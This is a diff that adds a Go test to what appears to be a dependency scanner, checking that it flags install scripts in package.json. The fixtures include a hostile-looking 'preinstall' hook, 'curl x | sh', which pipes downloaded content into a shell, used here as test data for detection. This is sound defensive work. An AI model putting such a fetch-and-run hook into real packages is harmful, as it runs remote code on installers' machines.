@@ -190,3 +190,19 @@ func TestTyposquatSuggestion(t *testing.T) {
 	}
 	t.Error("no typosquat finding")
 }
+
+func TestInstallScripts(t *testing.T) {
+	c := New("", "")
+	base := []byte(`{"scripts": {"prepare": "husky", "postinstall": "node a.js"}}`)
+	head := []byte(`{"scripts": {"prepare": "husky && node fetch.js", "postinstall": "node a.js", "preinstall": "curl x | sh"}}`)
+	got := scan(t, c, file("package.json", head, base))
+	diffLines(t, "PR", got, []string{
+		"1 deps-install-script medium prepare: husky && node fetch.js",
+		"1 deps-install-script medium preinstall: curl x | sh",
+	})
+	got = scan(t, c, file("package.json", head, nil))
+	diffLines(t, "scan", got, []string{
+		"1 deps-install-script medium postinstall: node a.js",
+		"1 deps-install-script medium preinstall: curl x | sh",
+	})
+}
